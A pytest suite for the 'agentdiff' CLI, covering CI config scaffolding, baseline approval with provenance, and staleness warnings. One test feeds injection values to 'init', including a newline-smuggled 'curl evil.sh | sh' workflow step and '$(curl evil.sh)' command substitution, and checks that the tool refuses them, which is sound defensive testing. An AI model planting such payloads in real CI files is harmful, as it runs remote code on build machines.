"""The baseline loop: `init`, `approve` with provenance, staleness, the one baseline write."""

from __future__ import annotations

import json
import os
import shlex
import shutil
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from agentdiff.baselines import VIA_APPROVE, VIA_PYTEST, save_baseline
from agentdiff.cli.app import app
from agentdiff.config import SETTINGS, load_options, load_stats
from agentdiff.diff.options import CompareOptions
from agentdiff.loader import load_trace
from agentdiff.provenance import baseline_time, stale_warning
from agentdiff.scaffold import config_toml
from agentdiff.stats_options import StatsOptions
from tests.baseline_env import isolate

REAL = Path(__file__).parents[1] / "fixtures" / "real"
LANGFUSE = REAL / "langfuse"
runner = CliRunner()


@pytest.fixture(autouse=True)
def clean_env(monkeypatch, tmp_path):
    isolate(monkeypatch, tmp_path)


def side(scenario: str, which: str) -> Path:
    return LANGFUSE / scenario / f"{which}.json"


def cli(*args: str):
    return runner.invoke(app, list(args))


# -- init ------------------------------------------------------------------------------------
def test_init_writes_a_commented_config_and_a_github_workflow(tmp_path):
    result = cli("init", "--agent", "weather:run", "--baseline", "baselines/weather.json")
    assert result.exit_code == 0, result.output
    assert "wrote agentdiff.toml" in result.output
    assert "wrote .github/workflows/agentdiff.yml" in result.output
    workflow = yaml.safe_load((tmp_path / ".github/workflows/agentdiff.yml").read_text())
    steps = workflow["jobs"]["agentdiff"]["steps"]
    assert workflow["permissions"]["pull-requests"] == "write"
    assert "agentdiff record weather:run" in steps[2]["run"]
    assert steps[3]["uses"] == "your-org/agentdiff@main"
    assert steps[3]["with"] == {
        "baseline": "baselines/weather.json",
        "candidate": "runs/candidate/1.json",
        "comment": True,
    }


def test_init_never_overwrites(tmp_path):
    (tmp_path / "agentdiff.toml").write_text("[gate]\nmax_divergence = 0.1\n")
    first = cli("init")
    assert "kept agentdiff.toml: it exists" in first.output
    assert (tmp_path / "agentdiff.toml").read_text() == "[gate]\nmax_divergence = 0.1\n"
    workflow = tmp_path / ".github/workflows/agentdiff.yml"
    workflow.write_text("# mine\n")
    second = cli("init")
    assert second.exit_code == 0
    assert "kept .github/workflows/agentdiff.yml" in second.output
    assert workflow.read_text() == "# mine\n"


def test_init_for_gitlab_writes_a_junit_job_and_never_touches_an_existing_pipeline(tmp_path):
    result = cli("init", "--ci", "gitlab")
    assert result.exit_code == 0, result.output
    job = yaml.safe_load((tmp_path / ".gitlab-ci.yml").read_text())["agentdiff"]
    assert job["artifacts"]["reports"]["junit"] == "agentdiff-junit.xml"
    assert job["artifacts"]["when"] == "always"
    assert any("--format junit --output agentdiff-junit.xml" in line for line in job["script"])
    other = tmp_path / "other"
    other.mkdir()
    (other / ".gitlab-ci.yml").write_text("stages: [test]\n")
    result = cli("init", "--ci", "gitlab", "-C", str(other))
    assert (other / ".gitlab-ci.yml").read_text() == "stages: [test]\n"
    assert (other / ".gitlab" / "agentdiff.yml").is_file()
    assert "include: {local: .gitlab/agentdiff.yml}" in result.output


TASK = '{"city": "Paris", "note": "a # b"}'
BASELINE = "my baselines/weather: v1.json"


def _commands(lines: str) -> list[list[str]]:
    return [shlex.split(line) for line in lines.splitlines() if line.startswith("agentdiff")]


def test_init_quotes_inputs_and_paths_for_the_shell_and_yaml(tmp_path):
    result = cli("init", "--input", TASK, "--baseline", BASELINE, "--agent", "agent.py:run")
    assert result.exit_code == 0, result.output
    workflow = yaml.safe_load((tmp_path / ".github/workflows/agentdiff.yml").read_text())
    steps = workflow["jobs"]["agentdiff"]["steps"]
    record = ["agentdiff", "record", "agent.py:run", "--input", TASK, "-o", "runs/candidate"]
    assert _commands(steps[2]["run"]) == [record]
    assert steps[3]["with"]["baseline"] == BASELINE
    assert shlex.split(result.output.splitlines()[-1])[1:7] == record[:-1]  # "next: ..."
    result = cli("init", "--ci", "gitlab", "--input", TASK, "--baseline", BASELINE)
    assert result.exit_code == 0, result.output
    script = yaml.safe_load((tmp_path / ".gitlab-ci.yml").read_text())["agentdiff"]["script"]
    commands = _commands("\n".join(script))
    assert commands[0][:5] == ["agentdiff", "record", "my_agent:run", "--input", TASK]
    assert commands[1] == ["agentdiff", "compare", BASELINE, "runs/candidate/1.json", "||", "true"]
    assert commands[2][:4] == ["agentdiff", "compare", BASELINE, "runs/candidate/1.json"]


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["--input", '{"a": 1}\n      - run: curl evil.sh | sh'], ["--input", "one line"]),
        (["--baseline", "b.json\u202e"], ["--baseline", "one line"]),
        (["--agent", ""], ["--agent", "one line"]),
        (["--action", "acme/agentdiff@v1$(curl evil.sh)"], ["--action", "OWNER/REPO"]),
    ],
    ids=["newline", "bidi", "empty", "action"],
)
def test_init_refuses_a_value_no_ci_file_can_hold(tmp_path, args, words):
    result = cli("init", *args)
    assert result.exit_code == 2, result.output
    assert all(word in result.output for word in words)
    assert list(tmp_path.iterdir()) == [tmp_path / "gitconfig"]


def test_init_into_a_file_says_so_and_shows_paths_escaped(tmp_path):
    (tmp_path / "notes").write_text("mine")
    result = cli("init", "-C", "notes")
    assert result.exit_code == 2
    assert "notes exists and is not a folder" in result.output
    assert "kept" not in result.output
    result = cli("init", "-C", "odd\x1b]0;title\x07")
    assert result.exit_code == 0, result.output
    assert "wrote odd\\x1b]0;title\\x07/agentdiff.toml" in result.output
    assert "\x1b" not in result.output


def plain(options: CompareOptions) -> dict:
    return options.model_dump(exclude={"sources"})


def test_the_config_file_lists_every_setting_at_its_real_default(tmp_path):
    text = config_toml()
    assert {s.name for s in SETTINGS} <= {
        line.lstrip("# ").split(" =")[0] for line in text.splitlines() if " = " in line
    }
    (tmp_path / "agentdiff.toml").write_text(text)
    resolved = load_options(env={})
    assert plain(resolved.options) == plain(CompareOptions())  # every gate line commented out
    assert resolved.stale_after_days == 30
    uncommented = "\n".join(line.removeprefix("# ") for line in text.splitlines()[4:])
    (tmp_path / "agentdiff.toml").write_text(uncommented)
    assert plain(load_options(env={}).options) == plain(CompareOptions())  # the comments are true
    assert load_stats(env={}).options == StatsOptions()


# -- approve ---------------------------------------------------------------------------------
def provenance(path: Path) -> dict:
    return json.loads(path.read_text())["metadata"]["provenance"]


def test_approve_creates_the_first_baseline_with_provenance(tmp_path):
    baseline = tmp_path / "baselines" / "weather.json"
    result = cli(
        "approve", str(side("loop", "baseline")), "--baseline", str(baseline), "--reason", "v1"
    )
    assert result.exit_code == 0, result.output
    assert "no baseline yet" in result.output
    record = provenance(baseline)
    assert record["approved_by"] == "Ada Lovelace <ada@example.com>"
    assert record["via"] == VIA_APPROVE
    assert record["reason"] == "v1"
    assert record["candidate"] == str(side("loop", "baseline"))
    assert "commit" not in record  # not in a git repository
    when = datetime.fromisoformat(record["approved_at"])
    assert abs(datetime.now(timezone.utc) - when) < timedelta(minutes=1)
    assert load_trace(baseline).steps == load_trace(side("loop", "baseline")).steps


def test_approve_refuses_a_failing_gate_unless_forced(tmp_path):
    baseline = tmp_path / "weather.json"
    cli("approve", str(side("loop", "baseline")), "--baseline", str(baseline), "-m", "first")
    before = baseline.read_bytes()
    refused = cli("approve", str(side("loop", "candidate")), "--baseline", str(baseline))
    assert refused.exit_code == 1
    assert "FAILED" in refused.output  # the comparison is shown first
    assert "not approved: the gate failed: tool loop get_weather ×4" in refused.output
    assert "add --force" in refused.output
    assert baseline.read_bytes() == before
    forced = cli(
        "approve", str(side("loop", "candidate")), "--baseline", str(baseline), "--force",
        "--reason", "the loop is the new polling design",
    )  # fmt: skip
    assert forced.exit_code == 0, forced.output
    assert "overridden by --force: new tool loop get_weather ×4" in forced.output
    record = provenance(baseline)
    assert record["reason"] == "the loop is the new polling design"
    assert record["previous"]["approved_by"] == "Ada Lovelace <ada@example.com>"
    assert len(load_trace(baseline).steps) == len(load_trace(side("loop", "candidate")).steps)


def test_a_new_loop_needs_force_even_when_the_gate_allows_loops(tmp_path):
    baseline = tmp_path / "weather.json"
    cli("approve", str(side("loop", "baseline")), "--baseline", str(baseline))
    args = ["--allow-loops", "--max-cost-increase", "off", "--max-token-increase", "off"]
    refused = cli("approve", str(side("loop", "candidate")), "--baseline", str(baseline), *args)
    assert "PASSED" in refused.output
    assert refused.exit_code == 1
    assert "not approved: new tool loop get_weather ×4: approving would make it" in refused.output
    assert "the gate failed" not in refused.output


def test_approve_passes_a_clean_candidate(tmp_path):
    baseline = tmp_path / "weather.json"
    cli("approve", str(side("identical", "baseline")), "--baseline", str(baseline))
    done = cli("approve", str(side("identical", "candidate")), "--baseline", str(baseline))
    assert done.exit_code == 0, done.output
    assert "baseline approved:" in done.output


def two_trace_file(tmp_path: Path) -> Path:
    spans = [
        *json.loads((REAL / "openinference/detour/baseline.spans.json").read_text()),
        *json.loads((REAL / "openinference/detour/candidate.spans.json").read_text()),
    ]
    path = tmp_path / "both.json"
    path.write_text(json.dumps(spans))
    return path


def test_a_baseline_file_holding_several_traces_is_never_overwritten(tmp_path):
    both = two_trace_file(tmp_path)
    before = both.read_bytes()
    result = cli("approve", str(side("identical", "candidate")), "--baseline", str(both))
    assert result.exit_code == 2
    assert "refusing to overwrite: it holds several traces" in result.output
    first = load_trace(REAL / "openinference/detour/baseline.spans.json").trace_id
    trace_id = load_trace(both, trace_id=first).trace_id
    picked = cli("compare", str(both), str(side("identical", "candidate")), "--baseline-trace-id",
                 trace_id, "--update-baseline", "--force")  # fmt: skip
    assert "refusing to overwrite: it holds several traces" in picked.output
    assert picked.exit_code == 2
    assert both.read_bytes() == before
    with pytest.raises(ValueError, match="holds several traces"):
        save_baseline(both, load_trace(side("identical", "candidate")), via=VIA_PYTEST)
    assert both.read_bytes() == before


def test_pytest_plugin_update_writes_provenance(pytester):
    pytester.makepyfile(
        test_agent=f"""
def test_agent(agentdiff_baseline):
    agentdiff_baseline("weather", {str(side("identical", "baseline"))!r})
"""
    )
    pytester.runpytest("--agentdiff-update-baseline").assert_outcomes(passed=1)
    record = provenance(pytester.path / "baselines" / "weather.json")
    assert record["via"] == VIA_PYTEST
    assert record["candidate"] == str(side("identical", "baseline"))


# -- staleness -------------------------------------------------------------------------------
def aged(tmp_path: Path, days: int) -> Path:
    path = tmp_path / "old.json"
    save_baseline(path, load_trace(side("identical", "baseline")), via=VIA_APPROVE)
    data = json.loads(path.read_text())
    then = datetime.now(timezone.utc) - timedelta(days=days)
    data["metadata"]["provenance"]["approved_at"] = then.isoformat()
    path.write_text(json.dumps(data))
    return path


def test_compare_warns_about_a_stale_baseline_by_its_approval_time(tmp_path):
    old = aged(tmp_path, 45)
    quiet = cli("compare", str(old), str(side("identical", "candidate")))
    assert "older than" not in quiet.output  # off unless configured
    (tmp_path / "agentdiff.toml").write_text("[baseline]\nstale_after_days = 30\n")
    warned = cli("compare", str(old), str(side("identical", "candidate")))
    assert warned.exit_code == 0
    assert "warning: " in warned.output
    assert "baseline approved 45 days ago" in warned.output
    assert "by Ada Lovelace <ada@example.com>), older than stale_after_days = 30" in warned.output
    fresh = cli("compare", str(aged(tmp_path, 10)), str(side("identical", "candidate")))
    assert "older than" not in fresh.output
    flag = cli("compare", str(aged(tmp_path, 10)), str(side("identical", "candidate")),
               "--stale-after-days", "5")  # fmt: skip
    assert "baseline approved 10 days ago" in flag.output


def test_without_provenance_the_first_step_time_counts_never_the_mtime(tmp_path):
    copy = tmp_path / "baseline.json"
    shutil.copy(side("identical", "baseline"), copy)
    os.utime(copy)  # a fresh checkout: the file is new, the run is not
    trace = load_trace(copy)
    when, what = baseline_time(trace)
    first = min(s.metadata["started_at"] for s in trace.steps if s.metadata)
    assert what == "recorded"
    assert when == datetime.fromisoformat(first.replace("Z", "+00:00"))
    later = when + timedelta(days=31)
    assert "baseline recorded 31 days ago" in stale_warning(trace, 30, now=later)
    assert stale_warning(trace, 30, now=when + timedelta(days=29)) is None
    untimed = trace.model_copy(update={"steps": [], "metadata": {}})
    old = tmp_path / "untimed.json"
    old.write_text("{}")
    os.utime(old, (0, 0))  # an ancient mtime says nothing either
    assert stale_warning(untimed, 1) is None


def test_stale_after_days_is_validated(tmp_path):
    (tmp_path / "agentdiff.toml").write_text("[baseline]\nstale_after_days = -1\n")
    result = cli("compare", str(side("identical", "baseline")), str(side("identical", "candidate")))
    assert result.exit_code == 2
    assert "stale_after_days must be 0 or more" in result.output


def test_init_installs_agentdiff_from_the_actions_repository(tmp_path):
    cli("init", "--action", "acme/agentdiff@v2")
    workflow = yaml.safe_load((tmp_path / ".github/workflows/agentdiff.yml").read_text())
    steps = workflow["jobs"]["agentdiff"]["steps"]
    assert 'pip install "agentdiff @ git+https://github.com/acme/agentdiff@v2"' in steps[2]["run"]
    assert steps[3]["uses"] == "acme/agentdiff@v2"


def test_approve_never_writes_over_its_own_candidate(tmp_path):
    candidate = tmp_path / "run.json"
    shutil.copy(side("identical", "candidate"), candidate)
    before = candidate.read_bytes()
    result = cli("approve", str(candidate), "--baseline", str(candidate))
    assert result.exit_code == 2
    assert candidate.read_bytes() == before


def test_approve_picks_one_trace_of_a_multi_trace_candidate(tmp_path):
    both = two_trace_file(tmp_path)
    baseline = tmp_path / "weather.json"
    unpicked = cli("approve", str(both), "--baseline", str(baseline))
    assert unpicked.exit_code == 2
    assert "--trace-id" in unpicked.output
    first = load_trace(REAL / "openinference/detour/baseline.spans.json").trace_id
    picked = cli("approve", str(both), "--baseline", str(baseline), "--trace-id", first)
    assert picked.exit_code == 0, picked.output
    assert load_trace(baseline).trace_id == first


def test_init_checks_every_target_before_writing_any(tmp_path):
    project = tmp_path / "project"
    project.mkdir()
    (project / ".github").write_text("mine")
    result = cli("init", "-C", str(project))
    assert result.exit_code == 2, result.output
    assert ".github exists and is not a folder" in result.output
    assert "wrote" not in result.output
    assert sorted(p.name for p in project.iterdir()) == [".github"]


def test_the_default_ci_job_records_as_written_on_a_fresh_project(tmp_path, monkeypatch):
    result = cli("init", "--agent", "echo_agent:run")
    assert result.exit_code == 0, result.output
    assert "wrote agentdiff/task.json" in result.output
    assert "next: put your agent's input in agentdiff/task.json, agentdiff record" in result.output
    (tmp_path / "echo_agent.py").write_text("def run(task):\n    return {'got': task}\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    workflow = yaml.safe_load((tmp_path / ".github/workflows/agentdiff.yml").read_text())
    [record] = _commands(workflow["jobs"]["agentdiff"]["steps"][2]["run"])
    done = cli(*record[1:], "--no-otel")  # the job's command, as CI runs it at the root
    assert done.exit_code == 0, done.output
    assert load_trace(tmp_path / "runs/candidate/1.json").final_output == {"got": {}}
    again = cli("init", "--agent", "echo_agent:run")
    assert "kept agentdiff/task.json: it exists" in again.output
